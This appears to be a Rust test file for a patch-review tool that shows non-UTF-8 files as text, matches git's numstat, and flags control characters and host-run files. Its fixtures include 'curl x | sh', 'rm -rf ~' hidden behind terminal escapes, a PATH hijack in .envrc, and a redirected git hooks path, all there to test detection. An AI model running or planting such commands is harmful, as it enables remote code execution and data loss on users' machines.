//! Text is text as git sees it: a file carried as a git binary patch only for not being UTF-8
//! is reviewed as the text git shows (its lines, `+`/`-` counts equal to `git diff
//! --numstat`, the control-character and runs-on-host warnings), while accept still applies
//! the exact bytes. Binary is git's rule: a NUL in the first 8000 bytes, or the host's
//! `.gitattributes`.
//!
//! Each change goes the way a real review's does: rendered into bundle patch files, parsed
//! back, reviewed against the host tree, applied to it.

mod common;

use std::path::Path;
use std::process::Command;

use smithers_patch::*;

fn version(content: &[u8]) -> FileVersion {
    FileVersion {
        mode: GitMode::File,
        oid: git_blob_oid(content),
        size: content.len() as u64,
        symlink_target: None,
        is_binary: is_binary_content(content),
        content: content.to_vec(),
        encoded: None,
    }
}

/// The host tree holding `old` at `path` (and the given `.gitattributes`), and the patches of
/// the change to `new`, parsed back from their bundle patch files.
fn host_and_patches(
    path: &str,
    old: Option<&[u8]>,
    new: &[u8],
    attributes: Option<&str>,
) -> (tempfile::TempDir, Vec<FilePatch>) {
    let host = tempfile::tempdir().unwrap();
    if let Some(a) = attributes {
        std::fs::write(host.path().join(".gitattributes"), a).unwrap();
    }
    if let Some(o) = old {
        let file = host.path().join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(file, o).unwrap();
    }
    let change = FileChange {
        path: path.into(),
        kind: if old.is_some() {
            ChangeKind::Modified
        } else {
            ChangeKind::Added
        },
        old: old.map(version),
        new: Some(version(new)),
    };
    let set = ChangeSet {
        changes: vec![change],
        ..Default::default()
    };
    let files = build_patch_files(&set);
    let patches = files
        .files
        .iter()
        .flat_map(|f| parse_patch(&f.content).unwrap())
        .collect();
    (host, patches)
}

/// `git diff --numstat` of the change, made in a git repository: `added\tremoved`, or `-\t-`
/// for a file git calls binary.
fn git_numstat(path: &str, old: Option<&[u8]>, new: &[u8], attributes: Option<&str>) -> String {
    let repo = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
            .args(args)
            .current_dir(repo.path())
            .output()
            .expect("git");
        assert!(out.status.success(), "git {args:?}: {out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    git(&["init", "-q"]);
    if let Some(a) = attributes {
        std::fs::write(repo.path().join(".gitattributes"), a).unwrap();
    }
    let file = repo.path().join(path);
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, old.unwrap_or(b"")).unwrap();
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "base"]);
    std::fs::write(&file, new).unwrap();
    let line = git(&["diff", "--numstat", "--", path]);
    let mut fields = line.trim_end().split('\t');
    format!("{}\t{}", fields.next().unwrap(), fields.next().unwrap())
}

/// Our numstat of the review.
fn numstat(review: &PatchReview<'_>) -> String {
    let stats = review.stats();
    assert_eq!(stats.len(), 1, "{stats:?}");
    match stats[0].binary {
        Some(_) => "-\t-".into(),
        None => format!("{}\t{}", stats[0].added, stats[0].removed),
    }
}

fn git_usable() -> bool {
    Command::new("git").arg("--version").output().is_ok() || common::skip_or_fail("git not found")
}

/// A script of `n` lines with a Latin-1 comment near the top.
fn latin1_script(n: usize) -> Vec<u8> {
    let mut s = b"#!/bin/sh\n# caf\xe9 au lait\n".to_vec();
    for i in 0..n {
        s.extend_from_slice(format!("echo step {i}\n").as_bytes());
    }
    s
}

/// The script with `curl x | sh` added after its comment.
fn with_curl(old: &[u8]) -> Vec<u8> {
    let cut = old.iter().position(|b| *b == 0xe9).unwrap() + b" au lait\n".len() + 1;
    [&old[..cut], b"curl x | sh\n", &old[cut..]].concat()
}

fn plain(review: &PatchReview<'_>, findings: &ReviewFindings) -> String {
    review.render(&ReviewOptions { color: false }, findings)
}

#[test]
fn a_latin1_script_is_reviewed_as_text_and_applied_exactly() {
    if !git_usable() {
        return;
    }
    let old = latin1_script(40);
    let new = with_curl(&old);
    let (host, patches) = host_and_patches("run.sh", Some(&old), &new, None);
    // A small edit: deltas both ways, so the old side is the host's file.
    let PatchBody::Binary {
        forward: BinaryHunk::Delta(_),
        reverse: Some(BinaryHunk::Delta(_)),
    } = &patches[0].body
    else {
        panic!("carried as a git binary delta patch: {:?}", patches[0].body);
    };

    let review = PatchReview::new(&patches, Some(host.path()));
    let findings = review.findings(&[]);
    assert!(findings.is_empty(), "{findings:?}");
    assert_eq!(
        numstat(&review),
        git_numstat("run.sh", Some(&old), &new, None)
    );
    assert_eq!(numstat(&review), "1\t0");
    let text = plain(&review, &findings);
    assert!(
        text.starts_with(" run.sh | 1 +\n 1 file changed, 1 insertion(+)\n"),
        "{text}"
    );
    assert!(
        text.contains("\n # caf\\xe9 au lait\n+curl x | sh\n"),
        "{text}"
    );
    assert!(text.contains("--- a/run.sh\n+++ b/run.sh\n@@ "), "{text}");
    assert!(!text.contains("GIT binary patch"), "{text}");
    // Marked on a terminal, like every escape.
    let coloured = review.render(&ReviewOptions { color: true }, &findings);
    assert!(
        coloured.contains("caf\x1b[7m\\xe9\x1b[27m au lait"),
        "{coloured:?}"
    );

    // Without the host tree a delta-only patch cannot be read: said, not hidden.
    let alone = PatchReview::new(&patches, None);
    let f = alone.findings(&[]);
    assert_eq!(f.not_shown_as_text.len(), 1, "{f:?}");
    assert!(plain(&alone, &f).starts_with(
        "warning: shown by size only, not as text: run.sh (its old side is the host's file"
    ));
    // A patch that carries both sides (literals, as git may write them) needs no host.
    let literals = FilePatch {
        body: PatchBody::Binary {
            forward: BinaryHunk::Literal(new.clone()),
            reverse: Some(BinaryHunk::Literal(old.clone())),
        },
        ..patches[0].clone()
    };
    let alone = PatchReview::new(std::slice::from_ref(&literals), None);
    assert!(alone.findings(&[]).is_empty());
    assert_eq!(numstat(&alone), "1\t0");

    // Accept writes exactly the new bytes.
    apply_patches(host.path(), &patches, &ApplyOptions::default()).unwrap();
    assert_eq!(std::fs::read(host.path().join("run.sh")).unwrap(), new);
    // Read again after accept, the review is the same: the reverse hunk leads back.
    let after = PatchReview::new(&patches, Some(host.path()));
    assert_eq!(plain(&after, &after.findings(&[])), text);
}

/// The host's file changed since: the delta's base is gone, so the review says it cannot
/// show the text, and accept refuses the file.
#[test]
fn a_changed_host_file_is_named_not_shown() {
    let old = latin1_script(400);
    let new = with_curl(&old);
    let (host, patches) = host_and_patches("run.sh", Some(&old), &new, None);
    std::fs::write(host.path().join("run.sh"), b"echo host\n").unwrap();
    let review = PatchReview::new(&patches, Some(host.path()));
    let f = review.findings(&[]);
    assert_eq!(f.not_shown_as_text[0].path, "run.sh");
    assert!(
        f.not_shown_as_text[0]
            .reason
            .contains("neither the one the change was made against nor its result"),
        "{f:?}"
    );
    assert!(apply_patches(host.path(), &patches, &ApplyOptions::default()).is_err());
}

#[test]
fn an_escape_in_a_non_utf8_file_is_a_control_character_finding() {
    let old = b"# caf\xe9\necho ok\n".to_vec();
    for (added, warned, shown) in [
        (
            &b"rm -rf ~ \x1b[2K\r# caf\xe9\n"[..],
            true,
            "+rm -rf ~ ^[[2K^M# caf\\xe9\n",
        ),
        // 0x9b is an 8-bit CSI in ISO 8859: a control, not a letter.
        (b"x \x9b31m\n", true, "+x \\x9b31m\n"),
        (b"na\xefve\n", false, "+na\\xefve\n"),
    ] {
        let new = [&old[..], added].concat();
        let (host, patches) = host_and_patches("a.sh", Some(&old), &new, None);
        assert!(matches!(patches[0].body, PatchBody::Binary { .. }));
        let review = PatchReview::new(&patches, Some(host.path()));
        let f = review.findings(&[]);
        assert_eq!(
            f.control_characters,
            if warned {
                vec!["a.sh".to_string()]
            } else {
                vec![]
            },
            "{added:?}"
        );
        let text = plain(&review, &f);
        assert!(text.contains(shown), "{text}");
        assert!(!text.contains('\x1b') && !text.contains('\r'), "{text:?}");
    }
}

#[test]
fn files_the_host_runs_are_flagged_with_a_latin1_byte() {
    let (host, patches) = host_and_patches(
        ".envrc",
        Some(b"# caf\xe9\n"),
        b"# caf\xe9\nexport PATH=/tmp/evil:$PATH\n",
        None,
    );
    let review = PatchReview::new(&patches, Some(host.path()));
    let f = review.findings(&[]);
    assert_eq!(f.runs_on_host.len(), 1, "{f:?}");
    assert_eq!(f.runs_on_host[0].path, ".envrc");
    assert!(plain(&review, &f).contains("+export PATH=/tmp/evil:$PATH\n"));

    // A git config that is not UTF-8 still names its hooks directory.
    let mut patches = host_and_patches(
        ".gitconfig",
        None,
        b"[user]\n\tname = Jos\xe9\n[core]\n\thooksPath = tools/hooks\n",
        None,
    )
    .1;
    patches.extend(host_and_patches("tools/hooks/pre-commit", None, b"#!/bin/sh\n", None).1);
    let f = PatchReview::new(&patches, None).findings(&[]);
    let flagged: Vec<&str> = f.runs_on_host.iter().map(|r| r.path.as_str()).collect();
    assert_eq!(flagged, [".gitconfig", "tools/hooks/pre-commit"], "{f:?}");
}

#[test]
fn binary_is_a_nul_in_the_first_8000_bytes_like_git() {
    if !git_usable() {
        return;
    }
    let mut early = b"caf\xe9\n".to_vec();
    early.extend_from_slice(&[b'a'; 100]);
    early.extend_from_slice(b"\0\n");
    let mut late = b"caf\xe9\n".to_vec();
    late.extend(std::iter::repeat_n(b'a', 8000));
    late.extend_from_slice(b"\0\n");
    for (name, old, want_binary) in [("early.txt", early, true), ("late.txt", late, false)] {
        let new = [&old[..], b"more\n"].concat();
        let (host, patches) = host_and_patches(name, Some(&old), &new, None);
        let review = PatchReview::new(&patches, Some(host.path()));
        let f = review.findings(&[]);
        let ours = numstat(&review);
        assert_eq!(ours, git_numstat(name, Some(&old), &new, None), "{name}");
        assert_eq!(ours == "-\t-", want_binary, "{name}: {ours}");
        assert!(f.not_shown_as_text.is_empty(), "{f:?}");
        if !want_binary {
            // The NUL is text like any control character: shown, and warned about.
            assert_eq!(f.control_characters, [name]);
            assert!(plain(&review, &f).contains("+more\n"));
        }
    }
}

#[test]
fn gitattributes_binary_is_binary_like_git() {
    if !git_usable() {
        return;
    }
    let attrs = "*.dat binary\n*.raw -diff\n*.txt -text\n";
    let old = b"caf\xe9\n".to_vec();
    let new = b"caf\xe9\nmore\n".to_vec();
    for (name, binary) in [
        ("x.dat", true),
        ("sub/y.raw", true),
        ("z.txt", false),
        ("w.sh", false),
    ] {
        let (host, patches) = host_and_patches(name, Some(&old), &new, Some(attrs));
        let review = PatchReview::new(&patches, Some(host.path()));
        let ours = numstat(&review);
        assert_eq!(
            ours,
            git_numstat(name, Some(&old), &new, Some(attrs)),
            "{name}"
        );
        assert_eq!(ours == "-\t-", binary, "{name}");
        assert!(review.findings(&[]).is_empty());
    }
}

/// Counts equal git's on an edit with removals, several hunks and no final newline.
#[test]
fn counts_equal_git_numstat_on_a_larger_edit() {
    if !git_usable() {
        return;
    }
    let mut lines: Vec<Vec<u8>> = (0..300)
        .map(|i| format!("ligne {i}\n").into_bytes())
        .collect();
    lines[5] = b"# \xe9t\xe9\n".to_vec();
    let old = lines.concat();
    lines[8] = b"chang\xe9 8\n".to_vec();
    lines.remove(150);
    lines[288] = b"x\ny\n".to_vec();
    let mut new = lines.concat();
    new.pop();
    let (host, patches) = host_and_patches("doc.txt", Some(&old), &new, None);
    let review = PatchReview::new(&patches, Some(host.path()));
    assert_eq!(
        numstat(&review),
        git_numstat("doc.txt", Some(&old), &new, None)
    );
    let text = plain(&review, &review.findings(&[]));
    assert!(text.contains("\\ No newline at end of file"), "{text}");
    assert_eq!(text.matches("\n@@ ").count(), 4, "{text}");
    assert!(text.contains(" # \\xe9t\\xe9\n"), "{text}");
}

/// Delete and add of a non-UTF-8 file are text too.
#[test]
fn added_and_deleted_latin1_files_are_text() {
    let (host, patches) = host_and_patches("new.txt", None, b"caf\xe9\n", None);
    let review = PatchReview::new(&patches, Some(host.path()));
    assert_eq!(numstat(&review), "1\t0");
    assert!(plain(&review, &review.findings(&[])).contains("+caf\\xe9\n"));

    let host = tempfile::tempdir().unwrap();
    std::fs::write(host.path().join("old.txt"), b"caf\xe9\nx\n").unwrap();
    let gone = version(b"caf\xe9\nx\n");
    let set = ChangeSet {
        changes: vec![FileChange {
            path: "old.txt".into(),
            kind: ChangeKind::Deleted,
            old: Some(gone),
            new: None,
        }],
        ..Default::default()
    };
    let patches = parse_patch(&build_patch_files(&set).files[0].content).unwrap();
    let review = PatchReview::new(&patches, Some(host.path()));
    assert_eq!(numstat(&review), "0\t2");
    assert!(plain(&review, &review.findings(&[])).contains("-caf\\xe9\n-x\n"));
    apply_patches(host.path(), &patches, &ApplyOptions::default()).unwrap();
    assert!(!Path::new(&host.path().join("old.txt")).exists());
}
